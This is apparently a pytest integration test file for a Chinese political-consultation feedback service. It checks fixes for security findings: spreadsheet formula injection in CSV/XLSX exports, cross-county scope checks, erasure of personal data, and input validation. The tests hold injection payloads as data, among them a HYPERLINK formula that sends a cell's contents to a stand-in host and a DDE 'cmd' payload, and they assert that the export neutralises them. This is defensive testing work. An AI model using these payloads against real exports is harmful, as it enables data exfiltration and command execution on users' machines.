"""Issue 14, the opinion side of feedback: what an outside probe did, and now cannot do."""

import csv
import io
import uuid

import pytest
from liaison_shared.events import Envelope
from liaison_tools.testing import collect, eventually, header, produce_raw, token_for
from openpyxl import load_workbook

from .conftest import CITY, DONGFENG, HUANGQUQIAO, HUINONG, PINGLUO, act, submit

pytestmark = pytest.mark.integration

FORMULA = '=HYPERLINK("http://x/?d="&A1,"点击")'


async def _send(platform, event, subject: str, org_unit: str) -> None:
    envelope = Envelope.wrap(event, subject=subject, org_unit=org_unit)
    await produce_raw(platform, envelope.topic, [(envelope.key.encode(), envelope.value(), envelope.headers())])


async def _feedback_rows(db_pool, opinion_id: str) -> dict:
    """What feedback holds of a case, to compare before and after a refused write."""
    return {
        "case": dict(await db_pool.fetchrow("SELECT status, converted_to::text, deadline FROM feedback.opinions"
                                            " WHERE id = $1::uuid", opinion_id)),
        "assignments": await db_pool.fetchval("SELECT count(*) FROM feedback.assignments WHERE opinion_id = $1::uuid",
                                              opinion_id),
        "history": await db_pool.fetchval("SELECT count(*) FROM feedback.case_history WHERE opinion_id = $1::uuid",
                                          opinion_id),
    }


# --- finding 1: formula injection in exports ---------------------------------------------------------------


async def _formula_category(api, staff, payload: str) -> str:
    """A category staff named like a formula (a name is one step of a path: no '/'); the tree is data
    (issue 21.1), so that is how such text reaches a case's category."""
    name = payload.replace("/", "")[:30]
    added = await api.post("/api/v1/categories", headers=staff, json={"name": name, "org_unit": HUANGQUQIAO})
    assert added.status_code in (201, 409), added.text  # 409: another test added it already
    return name


@pytest.mark.parametrize("starts", ["=", "+", "-", "@"])
async def test_export_cells_from_outside_are_inert_in_csv(world, starts):
    api, staff = world["api"], world["town_staff"]
    payload = FORMULA if starts == "=" else f"{starts}cmd|' /C calc'!A0"
    category = await _formula_category(api, staff, payload)
    case = await submit(api, content=payload, category=category)
    exported = await api.get(f"/api/v1/stats/export?org_unit={HUANGQUQIAO}", headers=staff)
    rows = list(csv.DictReader(io.StringIO(exported.text.lstrip("\ufeff"), newline="")))
    mine = next(r for r in rows if r["id"] == case["id"])
    assert mine["content"] == "'" + payload and mine["category"] == "'" + category


async def test_export_cells_from_outside_are_strings_in_xlsx(world):
    api, staff = world["api"], world["town_staff"]
    category = await _formula_category(api, staff, FORMULA)
    case = await submit(api, content=FORMULA, category=category)
    exported = await api.get(f"/api/v1/stats/export?org_unit={HUANGQUQIAO}&format=xlsx", headers=staff)
    sheet = load_workbook(io.BytesIO(exported.content)).active
    rows = list(sheet.iter_rows())
    columns = [c.value for c in rows[0]]
    mine = next(row for row in rows[1:] if row[0].value == case["id"])
    for name, value in (("content", FORMULA), ("category", category)):
        cell = mine[columns.index(name)]
        assert (cell.data_type, cell.value) == ("s", value), name
    assert all(c.data_type != "f" for row in rows for c in row)


# --- finding 2: consumed session opinions are re-checked, never trusted as staff ---------------------------------


async def test_a_session_opinion_naming_a_sibling_countys_department_is_not_assigned_there(world, platform, db_pool):
    from liaison_shared.contracts.consultation import OpinionRaised

    session = str(uuid.uuid4())
    ours, foreign = str(uuid.uuid4()), str(uuid.uuid4())
    for opinion_id, department in [(ours, world["departments"]["平罗县水务局"]),
                                   (foreign, world["departments"]["惠农区水务局"])]:
        await _send(platform, OpinionRaised(
            opinion_id=opinion_id, session_id=session, topic_id=str(uuid.uuid4()), org_unit=DONGFENG,
            content="议事会上提出：村口灌溉渠需要清淤", category="水利", disposition="assigned",
            department_ids=[department], deadline="2099-06-30", member_id=str(uuid.uuid4())),
            subject=opinion_id, org_unit=DONGFENG)
    past = str(uuid.uuid4())  # a refused action (a deadline gone by) leaves the case for triage too
    await _send(platform, OpinionRaised(
        opinion_id=past, session_id=session, topic_id=str(uuid.uuid4()), org_unit=DONGFENG, content="路灯不亮",
        disposition="assigned", department_ids=[world["departments"]["平罗县水务局"]], deadline="2020-01-01"),
        subject=past, org_unit=DONGFENG)
    for opinion_id in (ours, foreign, past):
        await eventually(lambda opinion_id=opinion_id: db_pool.fetchval(
            "SELECT count(*) FROM feedback.case_history WHERE opinion_id = $1::uuid AND action <> 'submit'",
            opinion_id), timeout=30)
    assigned = await db_pool.fetch("SELECT opinion_id::text, department_id FROM feedback.assignments"
                                   " WHERE opinion_id = ANY($1::uuid[])", [ours, foreign])
    assert {(r["opinion_id"], r["department_id"]) for r in assigned} == {(ours, world["departments"]["平罗县水务局"])}
    case = await db_pool.fetchrow("SELECT status, member_id FROM feedback.opinions WHERE id = $1::uuid", foreign)
    assert case["status"] == "received"  # left for the staff of 东风村 to triage
    assert case["member_id"] is None  # a member nobody registered is credited nothing
    history = await db_pool.fetch("SELECT actor_role, action FROM feedback.case_history"
                                  " WHERE opinion_id = ANY($1::uuid[])", [ours, foreign])
    assert "staff" not in {h["actor_role"] for h in history}  # the session acted as itself
    assert await db_pool.fetchval("SELECT status FROM feedback.opinions WHERE id = $1::uuid", past) == "received"
    seen = await world["api"].get("/api/v1/opinions?limit=500",
                                  headers=token_for(platform, "department", HUINONG,
                                                    dept=world["departments"]["惠农区水务局"]))
    assert foreign not in {o["id"] for o in seen.json()["items"]}


async def test_a_consultation_task_for_a_sibling_countys_department_is_left_for_triage(world, platform, db_pool):
    from liaison_shared.contracts.consultation import ConsultationOutcomeConverted
    from liaison_shared.contracts.feedback import OutcomeRef

    task_id = str(uuid.uuid4())
    event = ConsultationOutcomeConverted(
        source=OutcomeRef(kind="consultation_outcome", id=str(uuid.uuid4())),
        target=OutcomeRef(kind="department_task", id=task_id), org_unit=PINGLUO,
        title="协商议定：改造灌溉渠", department_ids=[world["departments"]["惠农区水务局"]], deadline="2099-06-30")
    await _send(platform, event, subject=event.source.id, org_unit=PINGLUO)
    row = await eventually(lambda: db_pool.fetchrow(
        "SELECT status FROM feedback.opinions WHERE id = $1::uuid", task_id), timeout=30)
    assert row["status"] == "received"
    assert await db_pool.fetchval("SELECT count(*) FROM feedback.assignments WHERE opinion_id = $1::uuid",
                                  task_id) == 0


# --- finding 4: erasure reaches every copy ----------------------------------------------------------------------


async def _no_trace(db_pool, *needles: str) -> dict[str, int]:
    """Every table of feedback's schema, every column as text: where does any needle occur?"""
    tables = await db_pool.fetch("SELECT table_name FROM information_schema.tables"
                                 " WHERE table_schema = 'feedback' AND table_type = 'BASE TABLE'")
    hits = {}
    for t in tables:
        for needle in needles:
            found = await db_pool.fetchval(
                f'SELECT count(*) FROM feedback."{t["table_name"]}" x WHERE x::text LIKE $1', f"%{needle}%")
            if found:
                hits[f"{t['table_name']}:{needle}"] = found
    return hits


async def test_erasure_on_request_tells_every_copy_and_leaves_no_trace(world, db_pool):
    api, staff = world["api"], world["town_staff"]
    phone, name = f"139{uuid.uuid4().int % 10**8:08d}", f"欧阳{uuid.uuid4().hex[:4]}"
    case = await submit(api, submitter_name=name, submitter_phone=phone)
    assert (await api.delete(f"/api/v1/opinions/{case['id']}/submitter", headers=staff)).status_code == 204
    [erased] = await collect(world["settings"], "cppcc.feedback.opinion", count=1, where=lambda r: (
        r.key == case["id"].encode() and header(r, "ce_type") == "cppcc.feedback.opinion.submitter_erased.v1"))
    assert phone.encode() not in erased.value and name.encode() not in erased.value
    assert await _no_trace(db_pool, phone, name, phone[-8:]) == {}
    history = (await api.get(f"/api/v1/opinions/{case['id']}", headers=staff)).json()["history"]
    assert history[-1]["action"] == "erase_submitter"
    sibling = token_for(world["settings"], "staff", HUINONG)
    other = await submit(api)
    assert (await api.delete(f"/api/v1/opinions/{other['id']}/submitter", headers=sibling)).status_code == 404


async def test_erasure_by_retention_tells_every_copy(world, db_pool):
    from datetime import UTC, datetime

    from feedback.handlers.retention import erase_expired
    from liaison_shared.db import create_pool
    from liaison_shared.uow import UnitOfWork

    api, staff = world["api"], world["town_staff"]
    case = await submit(api)
    assert (await act(api, staff, case["id"], action="close", reason="已办结")).status_code == 200
    await db_pool.execute("UPDATE feedback.opinions SET closed_at = now() - interval '400 days' WHERE id = $1::uuid",
                          case["id"])
    settings = world["settings"]
    pool = await create_pool(settings, "feedback")
    try:
        async with UnitOfWork(pool, schema="feedback", settings=settings) as uow:
            assert await erase_expired(uow, datetime.now(UTC), 365) >= 1
    finally:
        await pool.close()
    found = await collect(settings, "cppcc.feedback.opinion", count=1, where=lambda r: (
        r.key == case["id"].encode() and header(r, "ce_type") == "cppcc.feedback.opinion.submitter_erased.v1"))
    assert len(found) == 1


# --- finding 8: conversion into a topic of another county ----------------------------------------------------


async def test_converting_into_a_topic_outside_the_callers_scope_is_refused(world, platform, db_pool):
    from liaison_shared.contracts.consultation import TopicProposed

    api, staff = world["api"], world["county_staff"]
    theirs, ours = str(uuid.uuid4()), str(uuid.uuid4())
    for topic_id, unit in [(theirs, HUINONG), (ours, PINGLUO)]:
        await _send(platform, TopicProposed(topic_id=topic_id, org_unit=unit, title="灌溉渠改造", source_kind="public"),
                    subject=topic_id, org_unit=unit)
    await eventually(lambda: db_pool.fetchval("SELECT count(*) = 2 FROM feedback.topics WHERE id = ANY($1::text[])",
                                              [theirs, ours]), timeout=30)
    case = await submit(api)
    before = await _feedback_rows(db_pool, case["id"])
    refused = await act(api, staff, case["id"], action="convert", target="topic", topic_id=theirs)
    assert refused.status_code == 404, refused.text
    unknown = await act(api, staff, case["id"], action="convert", target="topic", topic_id=str(uuid.uuid4()))
    assert unknown.status_code == 422 and "topic" in unknown.json()["error"]["message"]
    assert await _feedback_rows(db_pool, case["id"]) == before
    converted = await act(api, staff, case["id"], action="convert", target="topic", topic_id=ours)
    assert converted.status_code == 200 and converted.json()["status"] == "converted"


# --- finding 9: intake credits only members and venues that exist ----------------------------------------------


async def test_intake_refuses_a_member_or_venue_nobody_registered(world, db_pool):
    api = world["api"]
    await eventually(lambda: db_pool.fetchval("SELECT count(*) FROM feedback.venues WHERE id = $1",
                                              world["venue_id"]), timeout=30)
    before = await db_pool.fetchval("SELECT count(*) FROM feedback.opinions")
    body = {"content": "路灯不亮", "org_unit": DONGFENG, "channel": "reception_day"}
    for field in ("member_id", "venue_id"):
        refused = await api.post("/api/v1/opinions", json={**body, field: str(uuid.uuid4())})
        assert refused.status_code == 422, refused.text
        assert field.removesuffix("_id") in refused.json()["error"]["message"]
    assert await db_pool.fetchval("SELECT count(*) FROM feedback.opinions") == before
    taken = await api.post("/api/v1/opinions", json={**body, "member_id": world["member_id"],
                                                     "venue_id": world["venue_id"]})
    assert taken.status_code == 201, taken.text


# --- finding 10: departments are not citizens ------------------------------------------------------------------


async def test_tracking_codes_go_to_the_handling_staff_never_to_departments(world, platform):
    api, staff, water = world["api"], world["county_staff"], world["water"]
    case = await submit(api)
    await act(api, staff, case["id"], action="assign", department_ids=[world["departments"]["平罗县水务局"]])
    detail = await api.get(f"/api/v1/opinions/{case['id']}", headers=water)
    assert detail.status_code == 200 and detail.json()["tracking_code"] is None
    listed = (await api.get("/api/v1/opinions?limit=500", headers=water)).json()["items"]
    assert [o["tracking_code"] for o in listed if o["id"] == case["id"]] == [None]
    assert case["tracking_code"] not in (await api.get("/api/v1/opinions?limit=500", headers=water)).text
    leader = token_for(platform, "leader", PINGLUO)
    assert (await api.get(f"/api/v1/opinions/{case['id']}", headers=leader)).json()["tracking_code"] is None
    handling = (await api.get(f"/api/v1/opinions/{case['id']}", headers=staff)).json()
    assert handling["tracking_code"] == case["tracking_code"]  # for a citizen who calls and lost it


async def test_personal_data_ends_with_the_assignment(world):
    api, staff = world["api"], world["county_staff"]
    case = await submit(api)
    both = [world["departments"]["平罗县水务局"], world["departments"]["平罗县住建局"]]
    await act(api, staff, case["id"], action="assign", department_ids=both)
    for department in ("water", "housing"):
        seen = (await api.get(f"/api/v1/opinions/{case['id']}", headers=world[department])).json()
        assert (seen["submitter_name"], seen["submitter_phone"]) == ("张三", "13812345678")
    assert (await act(api, world["housing"], case["id"], action="return", reason="不属于住建职责")).status_code == 200
    returned = (await api.get(f"/api/v1/opinions/{case['id']}", headers=world["housing"])).json()
    assert (returned["submitter_name"], returned["submitter_phone"]) == ("张*", "138****5678")
    assert (await act(api, world["water"], case["id"], action="reply", text="已疏通")).status_code == 200
    replied = (await api.get(f"/api/v1/opinions/{case['id']}", headers=world["water"])).json()
    assert (replied["submitter_name"], replied["submitter_phone"]) == ("张*", "138****5678")


# --- finding 11: out-of-range values are 422 at the model -------------------------------------------------------


@pytest.mark.parametrize("query", [
    "/api/v1/stats?date_from=9999-12-31", "/api/v1/stats?date_to=9999-12-31", "/api/v1/stats?date_from=0001-01-01",
    "/api/v1/stats/export?date_to=9999-12-31", "/api/v1/stats/export?limit=0",
    "/api/v1/opinions?status=lost", "/api/v1/calendar/99999",
])
async def test_out_of_range_query_values_are_422(world, query):
    answer = await world["api"].get(query, headers=world["county_staff"])
    assert answer.status_code == 422, answer.text


@pytest.mark.parametrize("body", [
    {"action": "assign", "deadline": "9999-12-31"},
    {"action": "assign", "deadline": "soon"},
    {"action": "extend", "days": 10**30, "reason": "x"},
])
async def test_out_of_range_action_values_are_422_and_change_nothing(world, db_pool, body):
    api, staff = world["api"], world["county_staff"]
    case = await submit(api)
    before = await _feedback_rows(db_pool, case["id"])
    if "department_ids" not in body and body["action"] == "assign":
        body = {**body, "department_ids": [world["departments"]["平罗县水务局"]]}
    answer = await act(api, staff, case["id"], **body)
    assert answer.status_code == 422, answer.text
    assert await _feedback_rows(db_pool, case["id"]) == before


# --- finding 13: assignment stays within the county ------------------------------------------------------------


async def test_assignment_to_a_sibling_countys_department_is_refused(world, db_pool, platform):
    api, staff = world["api"], world["county_staff"]
    foreign = world["departments"]["惠农区水务局"]
    case = await submit(api)
    before = await _feedback_rows(db_pool, case["id"])
    refused = await act(api, staff, case["id"], action="assign", department_ids=[foreign])
    assert refused.status_code == 422 and foreign in refused.json()["error"]["message"]
    mixed = await act(api, staff, case["id"], action="assign",
                      department_ids=[world["departments"]["平罗县水务局"], foreign])
    assert mixed.status_code == 422
    assert await _feedback_rows(db_pool, case["id"]) == before
    rule = await api.post("/api/v1/dispatch-rules", headers=staff, json={
        "category": f"跨县{uuid.uuid4().hex[:4]}", "org_unit": PINGLUO, "lead_department": foreign})
    assert rule.status_code == 422
    city = token_for(platform, "staff", CITY)  # the city may send any of its departments
    assert (await act(api, city, case["id"], action="assign", department_ids=[foreign])).status_code == 200


async def test_text_the_database_cannot_hold_is_a_4xx_not_a_500(world):
    answer = await world["api"].post("/api/v1/opinions", json={
        "content": "村口\x00灌溉渠", "org_unit": DONGFENG, "channel": "online"})
    assert answer.status_code == 422, answer.text
    # refused by the schema, naming the field, before the database sees it
    assert answer.json()["error"]["message"].startswith("content:"), answer.text
    named = await world["api"].post("/api/v1/opinions", json={
        "content": "村口灌溉渠", "org_unit": DONGFENG, "channel": "online", "submitter_name": "马\x1b[31m兰花"})
    assert named.status_code == 422 and named.json()["error"]["message"].startswith("submitter_name:"), named.text
    assert (await world["api"].get("/api/v1/track/AB%00CD")).status_code in (404, 422)
    rated = await world["api"].post("/api/v1/track/AB%00CD/rating", json={"rating": "satisfied"})
    assert rated.status_code in (404, 422)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tcmd", "\rcmd"])
def test_the_one_export_cell_function_quotes_every_formula_trigger(text):
    from feedback.api.stats import xlsx_bytes
    from liaison_shared.exports import csv_text

    [row] = list(csv.reader(io.StringIO(csv_text([[text, "村口灌溉渠"]]), newline="")))
    assert row == ["'" + text, "村口灌溉渠"]
    [cell, plain] = next(load_workbook(io.BytesIO(xlsx_bytes("t", [[text, "村口灌溉渠"]]))).active.iter_rows())
    # (XML reads a carriage return back as a line feed)
    assert (cell.data_type, cell.value, plain.value) == ("s", text.replace("\r", "\n"), "村口灌溉渠")
